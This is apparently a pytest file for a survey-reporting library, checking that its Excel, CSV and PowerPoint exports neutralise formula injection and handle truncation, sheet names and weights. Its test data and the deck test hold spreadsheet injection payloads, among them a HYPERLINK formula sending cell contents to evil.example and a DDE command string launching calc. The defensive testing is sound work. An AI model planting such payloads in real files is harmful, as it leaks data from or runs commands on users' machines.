"""Spreadsheet-safe exports: no live formula, neutralised CSV, visible truncation, unique names, the index."""

from __future__ import annotations

import csv
import warnings

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape

from cjm_lab.reports import build_workbook, read_manifest, save_table
from cjm_lab.reports.outputs import TruncatedCellWarning
from cjm_lab.reports.workbook import HEADER_ROW
from cjm_lab.untrusted import EXCEL_MAX_CHARS, FORMULA_PREFIXES

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "ok\x07bell\x00nul\x1b[31m",
]


def _table():
    return pd.DataFrame({"segment": HOSTILE, "n": [10] * len(HOSTILE), "nps": [1.5] * len(HOSTILE)})


FIRST = HEADER_ROW + 2  # the first data row of a table sheet (openpyxl counts from 1)


def _formula_cells(path):
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_xlsx_holds_typed_text_and_no_formula(tmp_path):
    save_table(_table(), "hostile", tmp_path, base=False)
    build_workbook(tmp_path)
    assert _formula_cells(tmp_path / "tables.xlsx") == []
    ws = openpyxl.load_workbook(tmp_path / "tables.xlsx")["hostile"]
    # (XlsxWriter stores a CR as Excel's escape _x000D_, which Excel shows as the CR and openpyxl leaves as it is)
    values = [unescape(ws.cell(row=r, column=1).value) for r in range(FIRST, len(HOSTILE) + FIRST)]
    assert values[:7] == HOSTILE[:7]  # exactly the text, no apostrophe added in Excel
    assert values[7] == "okbellnul[31m"  # control characters XML cannot hold are gone, not fatal
    assert all(ws.cell(row=r, column=1).quotePrefix for r in range(FIRST, FIRST + 7))  # editing keeps them text
    assert ws.cell(row=FIRST, column=2).value == 10 and ws.cell(row=FIRST, column=3).value == 1.5  # numbers


def test_csv_cells_are_neutralised_and_the_opt_out_keeps_them(tmp_path):
    save_table(_table(), "hostile", tmp_path, base=False)
    with open(tmp_path / "hostile.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [r[0] for r in rows[1:]]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    assert cells[0] == "'" + HOSTILE[0] and cells[4] == "'\t=1+1"
    trusted = tmp_path / "trusted"
    save_table(_table(), "hostile", trusted, base=False, neutralise=False)
    back = pd.read_csv(trusted / "hostile.csv", keep_default_na=False)
    assert back["segment"].tolist()[:7] == HOSTILE[:7]


def test_a_formula_in_a_column_name_is_neutralised_too(tmp_path):
    save_table(pd.DataFrame({"=cmd()": ["a"], "n": [10]}), "cols", tmp_path, base=False)
    header = (tmp_path / "cols.csv").read_text().splitlines()[0]
    assert header.startswith("'=cmd()")
    build_workbook(tmp_path)
    assert _formula_cells(tmp_path / "tables.xlsx") == []
    assert openpyxl.load_workbook(tmp_path / "tables.xlsx")["cols"].cell(row=HEADER_ROW + 1, column=1).value == "=cmd()"


def test_text_beyond_excel_is_cut_visibly_with_a_warning_and_kept_whole_in_csv(tmp_path):
    long = "Ä" * 40_000
    with pytest.warns(TruncatedCellWarning) as caught:
        save_table(pd.DataFrame({"comment": [long, "short"]}), "verbatims", tmp_path, base=False, mask=False)
    msg = str(caught[0].message)
    assert "1 cell(s) hold more than Excel's 32,767 characters" in msg and "column 'comment', row 1" in msg
    build_workbook(tmp_path)
    cell = openpyxl.load_workbook(tmp_path / "tables.xlsx")["verbatims"].cell(row=FIRST, column=1).value
    assert len(cell) == EXCEL_MAX_CHARS and cell.endswith("[…7,233 characters cut: Excel holds 32,767 in a cell]")
    assert pd.read_csv(tmp_path / "verbatims.csv")["comment"][0] == long


def test_names_that_clean_or_cut_alike_never_overwrite_each_other(tmp_path):
    names = [
        "NPS by region and wave, weighted (all)",
        "NPS by region and wave, weighted (DE)",  # same first 31 characters
        "nps by region/and wave",
        "nps_by_region_and_wave",  # cleans to the same file name as the one before
    ]
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        for i, name in enumerate(names):
            save_table(pd.DataFrame({"x": [i]}), name, tmp_path, base=False)
    manifest = list(read_manifest(tmp_path).tables.values())  # the manifest lists name, file and sheet
    assert [m.name for m in manifest] == names
    assert len({m.file for m in manifest}) == 4 and len({m.sheet for m in manifest}) == 4
    assert all(len(m.sheet) <= 31 for m in manifest)
    wb = openpyxl.load_workbook(build_workbook(tmp_path))
    for i, entry in enumerate(manifest):
        assert pd.read_csv(tmp_path / entry.file)["x"].tolist() == [i]
        assert wb[entry.sheet].cell(row=FIRST, column=1).value == i
    save_table(pd.DataFrame({"x": [99]}), names[0], tmp_path, base=False)  # the same name again replaces it
    assert len(read_manifest(tmp_path).tables) == 4
    assert pd.read_csv(tmp_path / manifest[0].file)["x"].tolist() == [99]


def test_a_meaningful_index_is_kept(tmp_path):
    table = pd.DataFrame({"n": [40, 50], "nps": [10.0, 20.0]}, index=pd.Index(["Nord", "Süd"], name="Region"))
    save_table(table, "by_region", tmp_path)
    back = pd.read_csv(tmp_path / "by_region.csv")
    assert back["Region"].tolist() == ["Nord", "Süd"]
    crosstab = pd.DataFrame({"a": [10, 20], "b": [30, 40]}, index=pd.MultiIndex.from_tuples([("x", 1), ("y", 2)]))
    save_table(crosstab, "cross", tmp_path, base=False)
    back = pd.read_csv(tmp_path / "cross.csv")
    assert list(back.columns) == ["level_0", "level_1", "a", "b"] and back["level_0"].tolist() == ["x", "y"]
    plain = pd.DataFrame({"n": [10, 20]})
    save_table(plain, "plain", tmp_path)
    assert list(pd.read_csv(tmp_path / "plain.csv").columns) == ["n", "suppressed"]


def test_crosstab_workbooks_hold_no_formula_from_labels(tmp_path):
    from cjm_lab.reports import crosstab_to_excel
    from cjm_lab.survey import crosstab

    df = pd.DataFrame({"answer": ["=1+1", "@x", "ok\x07", "=1+1"], "group": ["+a", "-b", "+a", "-b"]})
    out = crosstab_to_excel({"=evil": crosstab(df, rows="answer", columns="group")}, tmp_path / "x.xlsx")
    assert _formula_cells(out) == []
    texts = [c.value for ws in openpyxl.load_workbook(out) for row in ws.iter_rows() for c in row]
    assert "=1+1" in texts and "+a (A)" in texts


@pytest.mark.parametrize("scale", [1e308, 1e-200, 1.0, 7.5])
def test_the_scale_of_weights_never_changes_n_eff_or_the_ci(scale):
    from cjm_lab.survey import nps

    df = pd.DataFrame({"recommend": [10, 9, 7, 3, 0, 10, 8, 6], "w": [0.25, 0.5, 0.25, 1, 0.25, 0.25, 0.5, 0.25]})
    ref = nps(df, weight="w").iloc[0]
    out = nps(df.assign(w=df["w"] * scale), weight="w").iloc[0]
    for col in ("nps", "n_eff", "se", "ci_low", "ci_high", "pct_promoters"):
        assert out[col] == pytest.approx(ref[col], rel=1e-12), col


def test_weights_too_far_apart_are_refused():
    from cjm_lab.errors import CJMDataError
    from cjm_lab.survey import nps

    df = pd.DataFrame({"recommend": [10, 0], "w": [1e308, 1e-200]})
    with pytest.raises(CJMDataError, match=r"span more than 308 orders of magnitude.*Column 'w'.*Fix: Check how"):
        nps(df, weight="w")


def test_the_workbook_behind_a_deck_chart_holds_no_formula(tmp_path):
    """PowerPoint's "Edit data" opens the workbook python-pptx embeds for a native chart, written with
    XlsxWriter, which stores text starting with '=' as a formula: the categories from data stay text."""
    import io
    import zipfile

    import matplotlib.pyplot as plt

    from cjm_lab.plots import plot_nps
    from cjm_lab.reports import build_deck, save_figure
    from cjm_lab.survey import nps

    waves = ['=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1,2)"]
    by = nps(pd.DataFrame({"recommend": [10, 9, 3, 8, 10, 6] * 10, "wave": waves * 20}), by="wave")
    save_table(by, "nps_by_wave", tmp_path)
    save_figure(plot_nps(by), "nps_by_wave", tmp_path, table="nps_by_wave", takeaway="By wave.")
    plt.close("all")
    deck = zipfile.ZipFile(build_deck(tmp_path, title="NPS"))
    embedded = [n for n in deck.namelist() if n.startswith("ppt/embeddings/") and n.endswith(".xlsx")]
    assert embedded  # a native chart, with its data
    cells = [
        c
        for n in embedded
        for ws in openpyxl.load_workbook(io.BytesIO(deck.read(n)))
        for r in ws.iter_rows()
        for c in r
    ]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
    assert len(hostile) == 3 and all(c.data_type == "s" for c in hostile)  # the categories, as text
    assert all(c.quotePrefix for c in hostile if c.value.startswith("="))  # and it stays text when edited
